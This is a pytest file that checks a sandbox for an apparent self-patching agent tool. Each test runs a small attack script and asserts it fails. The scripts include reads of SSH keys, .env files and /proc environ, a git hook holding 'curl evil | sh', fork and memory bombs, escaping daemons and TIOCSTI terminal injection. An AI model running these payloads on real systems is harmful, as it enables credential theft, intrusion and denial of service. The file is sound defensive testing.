"""Real attack candidates against the sandbox (threats 16-28 in shared/design/threats.md).

Each attack is a small Python script run as the trial, in a real bubblewrap or unshare sandbox.
A test checks that the attack failed (and why), that run() came back in time, and that no
process of the trial is left (a /proc scan for a marker only the trial's command line holds).
"""

from __future__ import annotations

import hashlib
import os
import socket
import stat
import subprocess
import sys
import textwrap
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from selfpatch.errors import SandboxUnavailable
from selfpatch.verify._backends import HOW_TO_FIX, Bwrap, Unshare
from selfpatch.verify._sandbox import (
    DEFAULT_PATH,
    Isolation,
    Limits,
    Mounts,
    NoIsolation,
    RunResult,
    _first_available,
    choose,
    clean_env,
    run,
    spawn,
)

TRIAL_LIMITS = Limits(wall_s=10)
SECRET = "sk-live-" + "9f3a7c1e5b2d4f6a8c0e1b3d5f7a9c2e"
BACKENDS = {"bwrap": Bwrap, "unshare": Unshare}


def _preflighted(request: pytest.FixtureRequest) -> Isolation:
    isolation = BACKENDS[request.param]()
    try:
        isolation.preflight()
    except SandboxUnavailable as error:
        pytest.skip(f"{request.param} preflight failed on this machine: {error}")
    return isolation


@pytest.fixture(params=sorted(BACKENDS))
def backend(request: pytest.FixtureRequest) -> Isolation:
    return _preflighted(request)


@pytest.fixture(params=[*sorted(BACKENDS), "none"])
def any_backend(request: pytest.FixtureRequest) -> Isolation:
    """The sandboxes and, for what run() itself guarantees, no isolation at all."""
    if request.param == "none":
        return NoIsolation()
    return _preflighted(request)


@pytest.fixture
def copy(make_repo: object) -> Path:
    """The candidate's writable copy: a real git repository."""
    return make_repo({"agent.py": "print('hello')\n", "sub/.keep": ""})  # type: ignore[operator]


@pytest.fixture
def marker() -> str:
    return f"selfpatch-attack-{uuid.uuid4().hex}"


def trial(
    isolation: Isolation,
    code: str,
    cwd: Path,
    *,
    limits: Limits = TRIAL_LIMITS,
    readable: tuple[Path, ...] = (),
    env: dict[str, str] | None = None,
) -> RunResult:
    return run(
        isolation,
        [sys.executable, "-c", textwrap.dedent(code)],
        cwd=cwd,
        mounts=Mounts(writable=(cwd,), readable=readable),
        env=env if env is not None else clean_env(),
        limits=limits,
    )


def processes_with(marker: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            if marker.encode() in (entry / "cmdline").read_bytes():
                found.append(int(entry.name))
        except OSError:
            continue
    return found


def tree_hash(root: Path) -> str:
    digest = hashlib.sha256()
    for path in sorted(root.rglob("*")):
        info = path.lstat()
        digest.update(f"{path.relative_to(root)}:{stat.filemode(info.st_mode)}".encode())
        if path.is_file() and not path.is_symlink():
            digest.update(path.read_bytes())
    return digest.hexdigest()


def failed(result: RunResult, *needles: str) -> None:
    assert result.returncode != 0, result
    for needle in needles:
        assert needle in result.stderr.decode(), result


# --- 16: network -----------------------------------------------------------------------------


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen()
        server.settimeout(0.2)
        yield server


def test_connect_to_host_loopback_fails(
    backend: Isolation, copy: Path, listener: socket.socket
) -> None:
    port = listener.getsockname()[1]
    result = trial(
        backend,
        f"""
        import socket
        socket.create_connection(("127.0.0.1", {port}), timeout=3)
    """,
        copy,
    )
    failed(result, "[Errno")  # refused by the sandbox's own loopback, or unreachable
    with pytest.raises(TimeoutError):
        listener.accept()


@pytest.mark.parametrize("address", ["1.1.1.1", "8.8.8.8"])
def test_connect_to_public_address_fails(backend: Isolation, copy: Path, address: str) -> None:
    result = trial(
        backend,
        f"""
        import socket
        socket.create_connection(("{address}", 443), timeout=3)
    """,
        copy,
    )
    failed(result, "Network is unreachable")
    assert result.duration_s < 5


def test_dns_lookup_fails(backend: Isolation, copy: Path) -> None:
    result = trial(backend, "import socket; socket.getaddrinfo('example.com', 443)", copy)
    failed(result, "socket.gaierror")


def test_host_unix_socket_is_unreachable(backend: Isolation, copy: Path, tmp_path: Path) -> None:
    hidden = tmp_path / "host-only"
    hidden.mkdir()
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(str(hidden / "agent.sock"))
        server.listen()
        result = trial(
            backend,
            f"""
            import socket
            socket.socket(socket.AF_UNIX).connect({str(hidden / "agent.sock")!r})
        """,
            copy,
        )
    failed(result, "FileNotFoundError")


# --- 17: secrets -----------------------------------------------------------------------------


def test_clean_env_keeps_only_the_allowlist(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    monkeypatch.setenv("LANG", "C.UTF-8")
    env = clean_env({"PYTHONHASHSEED": "0"})
    assert SECRET not in repr(env)
    assert env["LANG"] == "C.UTF-8" and env["PYTHONHASHSEED"] == "0"
    assert set(env) <= {
        "LANG",
        "LC_ALL",
        "LC_CTYPE",
        "TZ",
        "PATH",
        "HOME",
        "PYTHONDONTWRITEBYTECODE",
        "PYTHONHASHSEED",
    }


def test_environment_and_proc_environ_hold_no_host_secret(
    backend: Isolation,
    copy: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)  # in this (host) process's /proc/<pid>/environ
    result = trial(
        backend,
        """
        import os, glob
        print(dict(os.environ))
        for path in glob.glob("/proc/[0-9]*/environ"):
            try:
                print(path, open(path, "rb").read())
            except OSError as error:
                print(path, error)
        print("pids", sorted(int(p) for p in os.listdir("/proc") if p.isdigit()))
    """,
        copy,
    )
    assert result.returncode == 0, result
    assert SECRET.encode() not in result.stdout + result.stderr
    assert str(os.getpid()).encode() + b"/environ" not in result.stdout


def test_unmounted_host_files_are_invisible(
    backend: Isolation, copy: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    ssh = tmp_path / "fake-home" / ".ssh"
    ssh.mkdir(parents=True)
    (ssh / "id_ed25519").write_text(SECRET)
    (tmp_path / ".env").write_text(f"OPENAI_API_KEY={SECRET}\n")
    # As under `python -m selfpatch` run from the user's repository: sys.path[0] is that
    # directory, and it must not be mounted with the rest of the import path.
    monkeypatch.setattr(sys, "path", [str(tmp_path), *sys.path])
    result = trial(
        backend,
        f"""
        print(open({str(ssh / "id_ed25519")!r}).read())
    """,
        copy,
    )
    failed(result, "FileNotFoundError")
    result = trial(backend, f"print(open({str(tmp_path / '.env')!r}).read())", copy)
    failed(result, "FileNotFoundError")
    assert SECRET.encode() not in result.stdout


def test_home_directory_is_hidden(backend: Isolation, copy: Path) -> None:
    home = Path.home()
    needed = {
        Path(p).relative_to(home).parts[0]
        for p in (sys.base_prefix, sys.prefix, *sys.path)
        if p and Path(p).is_relative_to(home) and Path(p) != home
    }
    private = sorted(p.name for p in home.iterdir() if p.name not in needed)
    if not private:
        pytest.skip(f"{home} holds nothing but the interpreter")
    result = trial(
        backend,
        f"""
        import os
        print(sorted(os.listdir({str(home)!r})) if os.path.isdir({str(home)!r}) else [])
    """,
        copy,
    )
    assert result.returncode == 0, result
    visible = eval(result.stdout)  # a list literal printed by the trial
    assert not set(visible) & set(private), visible


# --- 18 and 19: writes outside the copy, git hooks -------------------------------------------


def test_host_tree_and_home_are_unchanged(backend: Isolation, copy: Path, tmp_path: Path) -> None:
    host_repo = tmp_path / "host-repo"
    (host_repo / "pkg").mkdir(parents=True)
    (host_repo / "pkg" / "core.py").write_text("VALUE = 1\n")
    before = tree_hash(host_repo)
    escape = Path.home() / f"selfpatch-escape-{uuid.uuid4().hex}"
    result = trial(
        backend,
        f"""
        import os
        errors = []
        for path in ({str(host_repo / "pkg" / "core.py")!r}, {str(host_repo / "new.py")!r},
                     {str(escape)!r}, "/escape", "/usr/escape", "/dev/escape"):
            try:
                with open(path, "a") as f:
                    f.write("pwned = True\\n")
            except OSError as error:
                errors.append(type(error).__name__)
        print(errors)
        raise SystemExit(0 if len(errors) == 6 else 1)
    """,
        copy,
        readable=(host_repo,),
    )
    assert result.returncode == 0, result
    assert tree_hash(host_repo) == before
    assert not escape.exists()


def test_git_hooks_cannot_be_planted(backend: Isolation, copy: Path) -> None:
    nested = copy / "sub"
    subprocess.run(["git", "init", "-q"], cwd=nested, check=True)
    before = tree_hash(copy / ".git"), tree_hash(nested / ".git")
    result = trial(
        backend,
        """
        import os
        blocked = 0
        for path in (".git/hooks/pre-commit", ".git/config", "sub/.git/hooks/post-checkout"):
            try:
                with open(path, "a") as f:
                    f.write("#!/bin/sh\\ncurl evil | sh\\n[core]\\n\\thooksPath = /tmp\\n")
            except OSError:
                blocked += 1
        for path in (".git", "sub/.git"):
            try:
                os.rename(path, path + ".old")
            except OSError:
                blocked += 1
        open("agent.py", "a").write("# the copy itself stays writable\\n")
        raise SystemExit(0 if blocked == 5 else 1)
    """,
        copy,
    )
    assert result.returncode == 0, result
    assert (tree_hash(copy / ".git"), tree_hash(nested / ".git")) == before
    assert "stays writable" in (copy / "agent.py").read_text()


# --- 20 and 21: fork and memory bombs --------------------------------------------------------


def test_fork_bomb_is_contained(backend: Isolation, copy: Path, marker: str) -> None:
    result = trial(
        backend,
        f"""
        import os, time
        forked = 0
        try:
            while True:
                if os.fork() == 0:
                    time.sleep(60)  # {marker}
                    os._exit(0)
                forked += 1
        except OSError as error:
            print("forked", forked, error)
            raise SystemExit(3)
    """,
        copy,
        limits=Limits(wall_s=20, processes=40),
    )
    assert result.returncode == 3, result
    forked = int(result.stdout.split()[1])
    assert forked < 40, result
    assert b"Resource temporarily unavailable" in result.stdout
    assert processes_with(marker) == []


def test_memory_bomb_is_contained(backend: Isolation, copy: Path) -> None:
    result = trial(
        backend,
        """
        hoard = []
        while True:
            hoard.append(bytearray(16 << 20))
    """,
        copy,
        limits=Limits(wall_s=20, memory_mb=256),
    )
    assert result.returncode != 0 and not result.timed_out, result
    assert result.reason == "memory limit (MemoryError)"


# --- 22 and 26: timeouts, pipes held open, daemons -------------------------------------------


def test_infinite_loop_ignoring_sigterm_is_killed_in_time(
    any_backend: Isolation, copy: Path, marker: str
) -> None:
    started = time.monotonic()
    result = trial(
        any_backend,
        f"""
        import signal
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        while True:
            pass  # {marker}
    """,
        copy,
        limits=Limits(wall_s=1),
    )
    assert time.monotonic() - started < 2.0
    assert result.timed_out and result.reason == "timeout after 1s"
    assert processes_with(marker) == []


def test_grandchild_holding_the_pipe_does_not_hang_run(
    backend: Isolation, copy: Path, marker: str
) -> None:
    started = time.monotonic()
    result = trial(
        backend,
        f"""
        import subprocess, sys
        subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)  # {marker}"],
                         start_new_session=True)
        print("parent done")
    """,
        copy,
        limits=Limits(wall_s=10),
    )
    assert time.monotonic() - started < 5
    assert result.returncode == 0 and result.stdout == b"parent done\n", result
    assert processes_with(marker) == []


def test_double_fork_daemon_leaves_no_process(backend: Isolation, copy: Path, marker: str) -> None:
    result = trial(
        backend,
        f"""
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                for fd in (0, 1, 2):
                    os.close(fd)
                time.sleep(60)  # {marker}
            os._exit(0)
        os.wait()
        time.sleep(0.2)
        print("daemonized")
    """,
        copy,
    )
    assert result.returncode == 0 and b"daemonized" in result.stdout, result
    assert processes_with(marker) == []


def test_spawned_worker_is_killed_with_every_descendant(
    backend: Isolation, copy: Path, marker: str
) -> None:
    read_end, write_end = os.pipe()
    code = f"""
        import os, subprocess, sys
        subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)  # {marker}"],
                         start_new_session=True)
        os.write({write_end}, b"started\\n")
        print(sys.stdin.readline().strip(), flush=True)  # echo one request, then hang
        sys.stdin.readline()
    """
    proc = spawn(
        backend,
        [sys.executable, "-c", textwrap.dedent(code)],
        cwd=copy,
        mounts=Mounts(writable=(copy,)),
        env=clean_env(),
        limits=Limits(),
        pass_fds=(write_end,),
    )
    os.close(write_end)
    with proc, os.fdopen(read_end, "rb") as side_channel:
        assert side_channel.readline() == b"started\n"
        assert proc.popen.stdin is not None and proc.popen.stdout is not None
        proc.popen.stdin.write(b"ping\n")
        proc.popen.stdin.flush()
        assert proc.popen.stdout.readline() == b"ping\n"
        assert processes_with(marker) != []
    assert processes_with(marker) == []


# --- 23 and 24: disk and output floods -------------------------------------------------------


def test_tmp_fill_is_bounded(backend: Isolation, copy: Path) -> None:
    result = trial(
        backend,
        """
        import itertools
        for n in itertools.count():
            with open(f"/tmp/small-{n}", "wb") as f:
                f.write(b"x" * 4096)
    """,
        copy,
        limits=Limits(wall_s=20, tmp_mb=8),
    )
    failed(result, "No space left on device")


def test_big_file_in_the_copy_is_bounded(backend: Isolation, copy: Path) -> None:
    result = trial(
        backend,
        """
        with open("fill.bin", "wb") as f:
            while True:
                f.write(b"x" * (1 << 20))
                f.flush()
    """,
        copy,
        limits=Limits(wall_s=20, file_size_mb=4),
    )
    failed(result, "File too large")
    assert (copy / "fill.bin").stat().st_size <= 4 << 20


def test_output_flood_is_bounded(any_backend: Isolation, copy: Path) -> None:
    result = trial(
        any_backend,
        """
        import sys
        while True:
            sys.stdout.buffer.write(b"x" * 65536)
            sys.stderr.buffer.write(b"\\x1b[2J\\x00" * 1000)
    """,
        copy,
        limits=Limits(wall_s=1, output_bytes=100_000),
    )
    assert result.timed_out and result.truncated
    assert len(result.stdout) == 100_000 and len(result.stderr) <= 100_000


# --- 25: terminal injection ------------------------------------------------------------------


def test_no_controlling_terminal_for_tiocsti(backend: Isolation, copy: Path) -> None:
    result = trial(
        backend,
        """
        import fcntl, os, termios
        outcomes = []
        try:
            os.open("/dev/tty", os.O_RDWR)
            outcomes.append("tty opened")
        except OSError as error:
            outcomes.append(error.errno)
        for fd in (0, 1, 2):
            try:
                fcntl.ioctl(fd, termios.TIOCSTI, b"x")
                outcomes.append("injected")
            except OSError as error:
                outcomes.append(error.errno)
        print(outcomes, os.getsid(0) != os.getsid(os.getppid()) or os.getppid() == 0)
    """,
        copy,
    )
    assert result.returncode == 0, result
    assert b"opened" not in result.stdout and b"injected" not in result.stdout
    assert result.stdout.startswith(b"[6, 25, 25, 25]")  # ENXIO, then ENOTTY for the pipes


# --- 27: tools by absolute path --------------------------------------------------------------


def _plant_fakes(directory: Path, proof: Path) -> None:
    for name in ("bwrap", "python", "python3", "sh", "unshare", "setpriv", "nsenter"):
        fake = directory / name
        fake.write_text(f"#!/bin/sh\ntouch {proof}\n")
        fake.chmod(0o755)


def test_fake_tools_in_cwd_and_on_path_are_not_used(
    backend: Isolation,
    copy: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    proof = tmp_path / "fake-tool-ran"
    _plant_fakes(copy, proof)
    evil = tmp_path / "evil-bin"
    evil.mkdir()
    _plant_fakes(evil, proof)
    monkeypatch.setenv("PATH", f"{evil}:.:{os.environ['PATH']}")
    monkeypatch.chdir(copy)
    env = clean_env({"PATH": f".:{DEFAULT_PATH}"})
    result = run(
        backend,
        ["sh", "-c", "echo real shell"],
        cwd=copy,
        mounts=Mounts(writable=(copy,)),
        env=env,
        limits=Limits(wall_s=10),
    )
    assert result.stdout == b"real shell\n", result
    assert not proof.exists()
    with pytest.raises(ValueError, match="absolute"):
        run(
            backend,
            ["./python", "-c", "pass"],
            cwd=copy,
            mounts=Mounts(writable=(copy,)),
            env=env,
            limits=Limits(wall_s=10),
        )


# --- 28: no sandbox --------------------------------------------------------------------------


def test_missing_bwrap_is_refused_with_how_to_fix() -> None:
    with pytest.raises(SandboxUnavailable) as refused:
        Bwrap(bwrap="/nonexistent/bwrap").preflight()
    message = str(refused.value)
    assert "/nonexistent/bwrap" in message and HOW_TO_FIX in message
    assert "apt-get install bubblewrap" in message
    assert "kernel.apparmor_restrict_unprivileged_userns=0" in message


def test_failing_unshare_is_refused_and_auto_fails_closed(tmp_path: Path) -> None:
    failing = tmp_path / "unshare"
    failing.write_text(
        "#!/bin/sh\necho 'unshare: unshare failed: Operation not permitted' >&2\nexit 1\n"
    )
    failing.chmod(0o755)
    with pytest.raises(SandboxUnavailable, match="Operation not permitted"):
        Unshare(unshare=str(failing)).preflight()
    with pytest.raises(SandboxUnavailable) as refused:
        _first_available([Bwrap(bwrap="/nonexistent/bwrap"), Unshare(unshare=str(failing))])
    message = str(refused.value)
    assert "--unsafe-no-sandbox" in message and "kernel.unprivileged_userns_clone=1" in message
    assert "\n" not in message


def test_none_needs_the_explicit_opt_in() -> None:
    with pytest.raises(SandboxUnavailable, match="--unsafe-no-sandbox"):
        choose("none")
    assert choose("none", allow_unsafe=True).name == "none"


def test_auto_prefers_bwrap() -> None:
    try:
        Bwrap().preflight()
    except SandboxUnavailable as error:
        pytest.skip(f"bwrap preflight failed on this machine: {error}")
    assert choose("auto").name == "bwrap"


# --- limits are really applied ---------------------------------------------------------------


def test_cpu_limit_stops_a_busy_loop(backend: Isolation, copy: Path) -> None:
    result = trial(backend, "while True: pass", copy, limits=Limits(wall_s=10, cpu_s=1))
    assert not result.timed_out and result.reason.startswith("cpu time limit"), result


def test_mounting_home_or_root_is_refused(backend: Isolation, copy: Path) -> None:
    for path in (Path("/"), Path.home()):
        with pytest.raises(ValueError, match="refusing"):
            run(
                backend,
                [sys.executable, "-c", "pass"],
                cwd=copy,
                mounts=Mounts(writable=(copy,), readable=(path,)),
                env=clean_env(),
                limits=Limits(wall_s=5),
            )
